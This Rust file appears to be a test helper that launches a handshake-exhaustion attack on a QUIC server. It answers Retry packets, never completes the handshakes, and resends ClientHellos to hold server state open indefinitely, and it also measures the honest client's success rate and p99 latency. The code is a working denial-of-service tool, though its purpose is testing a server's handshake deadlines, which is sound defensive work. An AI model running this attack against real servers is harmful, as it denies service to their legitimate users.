//! An attacker that holds QUIC handshakes open on a link server without ever finishing them.
//!
//! It is a sans-IO client (quinn-proto) on plain UDP sockets: each handshake sends its Initial,
//! answers a Retry (so it passes address validation, as a real attacker at a real address
//! would), and reads nothing else. A few times a second it jumps each handshake's own clock to
//! its probe timeout, so the ClientHello goes out again in a new packet: the server sees a live
//! peer and, without a deadline of its own, keeps the handshake forever.
//!
//! Shared by the link's tests and the marketplace's (`#[path]`), so that both attack alike.
#![allow(dead_code)]

use std::collections::HashMap;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

use quinn_proto::crypto::rustls::QuicClientConfig;
use quinn_proto::{
    ClientConfig, Connection, ConnectionHandle, DatagramEvent, Endpoint, EndpointConfig,
    TransportConfig,
};

/// How often every handshake re-sends its ClientHello: well inside the server's idle timeout.
const RESEND_INTERVAL: Duration = Duration::from_secs(1);
/// How often the attacker looks at its sockets for Retry packets.
const POLL_INTERVAL: Duration = Duration::from_millis(10);
/// The largest datagram read.
const DATAGRAM_MAX_BYTES: usize = 2048;

/// What to attack, and how.
#[derive(Debug, Clone)]
pub struct AttackConfig {
    /// The link server.
    pub target: SocketAddr,
    /// The address the attacker sends from, e.g. 127.0.0.2.
    pub source: IpAddr,
    /// Handshakes held open.
    pub handshakes: usize,
    /// UDP sockets (source ports) the handshakes are spread over: 1 for one source port.
    pub sockets: usize,
    /// The ALPN the server expects, so that it answers the ClientHello and waits.
    pub alpn: Vec<u8>,
}

/// A running attack; stops when dropped.
pub struct Attack {
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl Attack {
    /// Starts the attack on its own thread.
    pub fn start(config: AttackConfig) -> Self {
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicU64::new(0));
        let thread = {
            let (stop, sent) = (stop.clone(), sent.clone());
            std::thread::spawn(move || run(config, &stop, &sent))
        };
        Self {
            stop,
            sent,
            thread: Some(thread),
        }
    }

    /// Datagrams sent so far.
    pub fn datagrams_sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }
}

impl Drop for Attack {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// One stalled handshake: its connection state, its socket and its own clock.
struct Stalled {
    connection: Connection,
    socket: usize,
    clock: Instant,
}

fn client_config(alpn: Vec<u8>) -> ClientConfig {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut tls = rustls::ClientConfig::builder_with_provider(provider)
        .with_protocol_versions(&[&rustls::version::TLS13])
        .unwrap()
        .with_root_certificates(rustls::RootCertStore::empty())
        .with_no_client_auth();
    tls.alpn_protocols = vec![alpn];
    let mut config = ClientConfig::new(Arc::new(QuicClientConfig::try_from(tls).unwrap()));
    let mut transport = TransportConfig::default();
    // The attacker's own clock jumps ahead; it must never give up on its side.
    transport.max_idle_timeout(None);
    config.transport_config(Arc::new(transport));
    config
}

fn run(config: AttackConfig, stop: &AtomicBool, sent: &AtomicU64) {
    let sockets: Vec<UdpSocket> = (0..config.sockets.max(1))
        .map(|_| {
            let socket = UdpSocket::bind(SocketAddr::new(config.source, 0)).unwrap();
            socket.set_nonblocking(true).unwrap();
            socket
        })
        .collect();
    let local: Vec<SocketAddr> = sockets.iter().map(|s| s.local_addr().unwrap()).collect();
    let client = client_config(config.alpn.clone());
    let mut endpoint = Endpoint::new(Arc::new(EndpointConfig::default()), None, false, None);
    let mut handshakes: HashMap<ConnectionHandle, Stalled> = HashMap::new();
    let mut buf = Vec::new();
    let started = Instant::now();
    for i in 0..config.handshakes {
        let (handle, connection) = endpoint
            .connect(started, client.clone(), config.target, "attacker")
            .unwrap();
        let mut stalled = Stalled {
            connection,
            socket: i % sockets.len(),
            clock: started,
        };
        flush(&mut stalled, &sockets, &mut buf, sent);
        handshakes.insert(handle, stalled);
    }
    let mut next_resend = Instant::now() + RESEND_INTERVAL;
    let mut datagram = [0u8; DATAGRAM_MAX_BYTES];
    while !stop.load(Ordering::Relaxed) {
        for (index, socket) in sockets.iter().enumerate() {
            while let Ok((len, from)) = socket.recv_from(&mut datagram) {
                // Only a Retry is answered (long header, type 3 in QUIC v1; the fixed bit may
                // be greased): the server's handshake packets are never read, so the
                // handshake never finishes.
                let is_retry = len > 0 && datagram[0] & 0xB0 == 0xB0;
                if !is_retry {
                    continue;
                }
                let now = Instant::now();
                let event = endpoint.handle(
                    now,
                    from,
                    Some(local[index].ip()),
                    None,
                    datagram[..len].into(),
                    &mut buf,
                );
                if let Some(DatagramEvent::ConnectionEvent(handle, event)) = event
                    && let Some(stalled) = handshakes.get_mut(&handle)
                {
                    stalled.clock = stalled.clock.max(now);
                    stalled.connection.handle_event(event);
                    flush(stalled, &sockets, &mut buf, sent);
                }
            }
        }
        if Instant::now() >= next_resend {
            next_resend += RESEND_INTERVAL;
            for stalled in handshakes.values_mut() {
                // Jump this handshake's clock to its probe timeout: it re-sends its ClientHello
                // in a new packet.
                if let Some(timeout) = stalled.connection.poll_timeout() {
                    stalled.clock = stalled.clock.max(timeout);
                    stalled.connection.handle_timeout(stalled.clock);
                }
                flush(stalled, &sockets, &mut buf, sent);
            }
        }
        std::thread::sleep(POLL_INTERVAL);
    }
}

/// Sends whatever the handshake has to send, and drops its events: nobody reads them.
fn flush(stalled: &mut Stalled, sockets: &[UdpSocket], buf: &mut Vec<u8>, sent: &AtomicU64) {
    while stalled.connection.poll_endpoint_events().is_some() {}
    while stalled.connection.poll().is_some() {}
    loop {
        buf.clear();
        let Some(transmit) = stalled.connection.poll_transmit(stalled.clock, 1, buf) else {
            break;
        };
        if sockets[stalled.socket]
            .send_to(&buf[..transmit.size], transmit.destination)
            .is_ok()
        {
            sent.fetch_add(1, Ordering::Relaxed);
        }
    }
}

/// Raises this process's soft limit on open files to `wanted` (at most the hard limit), for
/// attacks from many sockets.
pub fn raise_open_files_limit(wanted: u64) {
    let mut limit = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: getrlimit and setrlimit only read and write the struct passed.
    unsafe {
        if libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit) == 0 && limit.rlim_cur < wanted {
            limit.rlim_cur = wanted.min(limit.rlim_max);
            libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
        }
    }
}

/// The honest client's figures in one phase: how many calls succeeded, and their latencies.
#[derive(Debug, Default)]
pub struct Figures {
    /// Calls made.
    pub calls: usize,
    /// Latency of each successful call.
    pub latencies: Vec<Duration>,
}

impl Figures {
    /// Records one call.
    pub fn record(&mut self, latency: Duration, ok: bool) {
        self.calls += 1;
        if ok {
            self.latencies.push(latency);
        }
    }

    /// The share of calls that succeeded.
    pub fn success_rate(&self) -> f64 {
        if self.calls == 0 {
            return 0.0;
        }
        self.latencies.len() as f64 / self.calls as f64
    }

    /// The 99th percentile of successful calls' latency (nearest rank).
    pub fn p99(&self) -> Option<Duration> {
        let mut sorted = self.latencies.clone();
        sorted.sort();
        let rank = (sorted.len() * 99).div_ceil(100);
        sorted.get(rank.checked_sub(1)?).copied()
    }

    /// One line for the closing note.
    pub fn line(&self, phase: &str) -> String {
        format!(
            "{phase}: {}/{} succeeded ({:.1} %), p99 {}",
            self.latencies.len(),
            self.calls,
            100.0 * self.success_rate(),
            self.p99().map_or("n/a".to_owned(), |p99| format!(
                "{:.1} ms",
                p99.as_secs_f64() * 1e3
            ))
        )
    }
}
